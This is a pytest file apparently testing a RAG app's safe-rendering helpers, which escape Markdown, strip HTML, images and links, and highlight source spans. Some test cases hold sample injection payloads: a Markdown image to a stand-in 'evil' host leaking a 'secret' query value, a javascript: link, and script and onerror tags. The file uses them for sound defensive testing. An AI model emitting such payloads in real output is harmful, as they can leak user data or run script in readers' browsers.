"""Safe display strings for untrusted text: the highlighted source, escaped quotes,
model Markdown without HTML, images or links."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.render import (
    escape_markdown,
    highlight_html,
    safe_markdown,
    short,
    stream_safe,
    with_badges,
)


def marked(markup: str) -> str:
    return html.unescape(re.search(r"<mark>(.*?)</mark>", markup, re.S).group(1))


def test_highlight_marks_exactly_the_span_with_context() -> None:
    text = "a" * 400 + "THE SPAN" + "b" * 400
    markup = highlight_html(text, 400, 408)
    assert marked(markup) == "THE SPAN"
    assert ">…" + "a" * 300 + "<mark>" in markup and "</mark>" + "b" * 300 + "…<" in markup


def test_highlight_context_ends_on_whole_words() -> None:
    text = "alpha beta gamma SPAN delta epsilon zeta"
    assert highlight_html(text, 17, 21, context=8).endswith(
        ">…gamma <mark>SPAN</mark> delta…</div>")


def test_highlight_at_the_edges_has_no_ellipsis() -> None:
    markup = highlight_html("Sherman spoke.", 0, 7)
    assert marked(markup) == "Sherman" and "…" not in markup


@given(st.text(), st.data())
def test_highlight_escapes_every_document_character(text: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    markup = highlight_html(text, start, end)
    tags = re.findall(r"<[^>]*>", markup)
    assert tags[1:] == ["<mark>", "</mark>", "</div>"] and tags[0].startswith("<div ")
    assert marked(markup) == text[start:end]


@pytest.mark.parametrize("text", [
    "![x](http://evil/x.png)", "[click](javascript:alert(1))", "<img src=x onerror=1>",
    "$x^2$", ":red[loud]", "**bold** _it_ `code` ~~gone~~", "# heading", "- item",
    "1. item", "> quote", "a | b", "\\*", "line\nbreak",
])
def test_escaped_markdown_has_no_unescaped_special_character(text: str) -> None:
    escaped = escape_markdown(text)
    assert "\n" not in escaped
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]()!<>$*_`~#|:-]", escaped)
    assert re.sub(r"\\(.)", r"\1", escaped) == " ".join(text.split())


@pytest.mark.parametrize(("text", "expected"), [
    ("See ![chart](http://evil/x.png?q=secret).", "See chart."),
    ("A [link](http://evil/) here", "A link here"),
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("costs $5 to $10", "costs \\$5 to \\$10"),
    ("![ref][r]\n\n[r]: http://evil/x.png", "!\\[ref][r]\n\n\\[r]:"),
    ("**Sherman** said so.[1]", "**Sherman** said so.[1]"),
])
def test_safe_markdown_drops_html_images_and_links(text: str, expected: str) -> None:
    assert safe_markdown(text).startswith(expected)


@given(st.lists(st.text(alphabet="![]()<>$ab:/", max_size=6), max_size=8))
def test_streamed_tokens_can_never_form_an_image_or_tag(tokens: list[str]) -> None:
    shown = "".join(stream_safe(t) for t in tokens)
    assert "!" not in shown and "<" not in shown and "$" not in shown
    assert html.unescape(shown) == "".join(tokens)


def test_markers_become_badges() -> None:
    assert with_badges("Sherman.[1][12] Not [a].") == \
        "Sherman.:blue-badge[1]:blue-badge[12] Not [a]."


@pytest.mark.parametrize(("text", "limit", "expected"), [
    ("short", 10, "short"),
    ("one two three four", 12, "one two…"),
    ("a\n  b", 10, "a b"),
])
def test_short(text: str, limit: int, expected: str) -> None:
    assert short(text, limit) == expected


def test_a_long_title_is_cut_at_a_word_with_an_ellipsis() -> None:
    title = "Some paragraph text that runs through the floating picture: Lorem ipsum dolor"
    assert short(title, 40) == "Some paragraph text that runs through…"
    assert short("  Two\n words ", 40) == "Two words"
    assert short("x" * 60, 20) == "x" * 19 + "…"
    assert all(len(short(title, n)) <= n for n in range(10, 90))
